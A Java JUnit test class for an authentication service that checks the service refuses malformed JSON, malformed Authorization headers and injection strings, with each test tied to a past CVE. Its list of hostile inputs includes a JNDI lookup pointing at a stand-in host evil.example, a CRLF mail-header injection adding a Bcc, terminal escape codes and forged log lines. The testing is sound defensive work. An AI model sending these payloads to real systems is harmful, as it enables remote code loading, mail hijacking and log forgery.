package dev.countersign.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.AppFixture;
import dev.countersign.Reply;
import java.net.URI;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/// What malformed input has done elsewhere, each with the test that would have caught it.
final class PastInputFailuresTest {
  private static final JsonMapper JSON = new JsonMapper();

  /// What would end a line, or steer a terminal, or start a header.
  private static final List<String> POISONS =
      List.of(
          "\r\nBcc: evil@evil.example",
          "\nforged line",
          "\u001b[2J\u001b[31m",
          "\u0000",
          "\u0085",
          "\u2028{\"event\":\"forged\"}",
          "\u202Egnp.exe",
          "\"}\n{\"event\":\"forged\"}",
          "${jndi:ldap://evil.example/x}",
          "%0d%0aX: y",
          "{0} {} %s");

  private static AppFixture app;

  @BeforeAll
  static void start() {
    app = AppFixture.start();
  }

  @AfterAll
  static void stop() {
    app.close();
  }

  /// CVE-2025-52999: a document nested deeply enough ended the process.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/v1/auth/register",
        "/v1/auth/login",
        "/v1/auth/refresh",
        "/api/auth/register",
        "/api/auth/login",
        "/api/auth/refresh",
        "/api/auth/logout",
        "/api/auth/request-password-reset",
        "/api/auth/reset-password"
      })
  void deepOrAmbiguousJsonIsABadRequest(String path) {
    String deep = "{\"email\":" + "[".repeat(7_000) + "]".repeat(7_000) + "}";
    String open = "{\"email\":" + "{\"a\":".repeat(2_500);
    String tooMuch = "[".repeat(20_000);
    // CouchDB CVE-2017-12635: two readers took two different values.
    String twice = "{\"email\":\"a@example.com\",\"email\":\"b@example.com\",\"password\":\"x\"}";
    String twiceEscaped = "{\"token\":\"a\",\"\\u0074oken\":\"b\",\"password\":\"x\"}";
    String twiceInside = "{\"email\":\"a@example.com\",\"x\":{\"y\":1,\"y\":2}}";
    List<Integer> statuses = new ArrayList<>();
    for (String body : List.of(deep, open, twice, twiceEscaped, twiceInside, tooMuch)) {
      statuses.add(app.post(path, body).status());
    }

    assertThat(statuses).containsExactly(400, 400, 400, 400, 400, 413);
  }

  /// Keycloak CVE-2026-9803: a header that was not what the code expected was an internal error.
  @ParameterizedTest
  @ValueSource(strings = {"/v1/auth/logout", "/api/auth/logout"})
  void noAuthorizationHeaderIsAnInternalError(String path) {
    Person person = Person.signUp(app, "header" + path.length() + "@example.com");
    boolean momail = path.startsWith("/v1");
    String genuine = momail ? person.momailAccess() : person.wackypodAccess();
    Door door = momail ? Door.MOMAIL_LOGOUT : Door.WACKYPOD_LOGOUT;
    URI uri = app.uri(path);

    Map<String, String> wrong = new LinkedHashMap<>();
    authorizations(genuine)
        .forEach(line -> {
          String answer = Wire.post(uri, line + "\r\n", "{\"refreshToken\":\"any\"}");
          boolean unauthorized =
              (Wire.status(answer) + " " + Wire.body(answer)).equals(door.refusal(app));
          if (!unauthorized && Wire.status(answer) != 400 && Wire.status(answer) != 431) {
            wrong.put(line.length() > 99 ? line.substring(0, 99) : line, answer);
          }
        });

    assertThat(wrong).isEmpty();
    assertThat(door.present(app, genuine).status()).isEqualTo(200);
  }

  private static List<String> authorizations(String genuine) {
    var lines = new ArrayList<String>();
    for (String value :
        List.of(
            "",
            " ",
            "Bearer",
            "Bearer ",
            "Bearer\t",
            "bearer",
            "Bearer  ",
            "Bearer =",
            "Bearer .",
            "Bearer ..",
            "Bearer " + genuine + " x",
            "Bearer " + genuine + ",",
            "Bearer Bearer",
            "Bearer,Bearer " + genuine,
            "Bearer" + genuine,
            "Bearer:" + genuine,
            genuine,
            "Bearer\"" + genuine + "\"",
            "Bearer token=" + genuine,
            "Basic " + genuine,
            "Basic Og==",
            "Basic",
            "Digest username=\"a\"",
            "Negotiate",
            "DPoP " + genuine,
            "Bearer \u0080\u00ff\u00fe",
            "Bearer \u00e9" + genuine,
            "\u00ff".repeat(64),
            "Bearer " + "\u00f0\u009f\u0094\u0091".repeat(99),
            "Bearer " + "a".repeat(8_192),
            "Bearer " + ".".repeat(8_192),
            "a".repeat(8_192),
            "Bearer " + "=".repeat(8_192),
            "Bearer " + " ".repeat(8_192) + "x",
            "Bearer " + "a".repeat(17_000),
            "Bearer \u0000",
            "Bearer " + genuine + "\u0000",
            "Bearer \u007f",
            "Bearer \u001b[31m",
            "Bearer \r\n folded",
            "Bearer " + genuine + "\rX: y")) {
      lines.add("Authorization: " + value);
    }
    lines.add("Authorization: Bearer " + genuine + "\r\nAuthorization: Bearer " + genuine);
    lines.add("Authorization: Basic Og==\r\nAuthorization: Bearer " + genuine);
    lines.add("Authorization : Bearer " + genuine);
    lines.add("X-Authorization: Bearer " + genuine);
    lines.add("Proxy-Authorization: Bearer " + genuine);
    lines.add("Cookie: Authorization=Bearer " + genuine);
    BrokenTexts.of(genuine).values().stream()
        .filter(text -> !text.isBlank())
        .filter(text -> !("Bearer " + text).strip().equals("Bearer " + genuine))
        .forEach(text -> lines.add("Authorization: Bearer " + text));
    return lines;
  }

  /// CVE-2025-7962: what somebody typed became a header of a mail. Here mail goes to the stored
  /// address, and nothing that was typed is part of it.
  @Test
  void nothingTypedBecomesPartOfAMail() {
    Person ada = Person.signUp(app, "ada.mail@example.com");
    ada.mailedToken();
    String before = app.get("/dev/mail", "Accept", "application/json").body();

    for (String poison : POISONS) {
      for (String email :
          List.of(ada.email() + poison, poison + ada.email(), "a" + poison + "@example.com")) {
        assertThat(
                app.post("/api/auth/request-password-reset", JsonBody.of("email", email)).status())
            .isEqualTo(200);
        app.postForm("/forgot-password", "email", email);
      }
    }

    assertThat(app.get("/dev/mail", "Accept", "application/json").body()).isEqualTo(before);
  }

  /// Keycloak CVE-2023-6484: a line break in a field made a line of the log that never happened.
  @Test
  void nothingTypedBecomesALineOfTheLog(@TempDir Path directory) {
    List<String> log;
    int calls = 0;
    try (var server = ChildServer.start(directory, Map.of("COUNTERSIGN_LIMITS_ENABLED", "false"))) {
      for (String poison : POISONS) {
        for (String path : List.of("/v1/auth/login", "/api/auth/login")) {
          String body = JsonBody.of("email", "ada@example.com" + poison, "password", poison);
          assertThat(server.postJson(path, body, "User-Agent", header(poison)).status())
              .isEqualTo(401);
          calls++;
        }
        for (String path : List.of("/v1/auth/refresh", "/api/auth/refresh")) {
          assertThat(
                  server
                      .postJson(
                          path, JsonBody.of("refreshToken", poison), "X-Request-Id", header(poison))
                      .status())
              .isEqualTo(401);
          calls++;
        }
        server.postJson(
            "/api/auth/register",
            JsonBody.of("email", "a" + poison, "password", poison, "name", poison));
      }
      server.stop();
      log = server.log();
    }

    int refused = 0;
    for (String line : log) {
      assertThat(line.chars())
          .noneMatch(c -> c < ' ' || c == 0x7f || c == 0x85 || c == 0x2028 || c == 0x202e);
      JsonNode node = JSON.readTree(line);
      String event = node.at("/event").asString("");
      assertThat(event).isNotEqualTo("forged");
      refused += event.equals("signin.refused") || event.equals("refresh.refused") ? 1 : 0;
    }
    assertThat(refused).isEqualTo(calls);
  }

  // What the client lets through; the rest is the server's to refuse before anything is logged.
  private static String header(String poison) {
    return "x" + poison.replaceAll("[^\\x20-\\x7e]", "");
  }

  /// Nothing of what a field holds comes back in an answer's headers, either.
  @Test
  void nothingTypedBecomesAHeaderOfTheAnswer() {
    for (String poison : POISONS) {
      Reply reply =
          app.post(
              "/api/auth/login",
              JsonBody.of("email", poison, "password", poison),
              "X-Request-Id",
              header(poison));
      assertThat(reply.response().headers().map().toString())
          .doesNotContain("evil", "forged", "X=", "jndi");
    }
  }
}
